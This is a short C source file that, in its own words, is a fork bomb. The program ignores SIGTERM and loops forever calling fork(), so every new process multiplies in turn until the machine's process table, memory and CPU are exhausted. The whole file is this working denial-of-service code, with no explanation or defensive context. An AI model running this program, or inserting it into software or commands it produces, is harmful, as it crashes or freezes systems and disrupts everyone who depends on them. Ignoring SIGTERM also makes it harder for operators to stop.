/* A fork bomb: every process of it forks as often as it can, and none ever ends by itself. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	signal(SIGTERM, SIG_IGN);
	for (;;)
		fork();
}
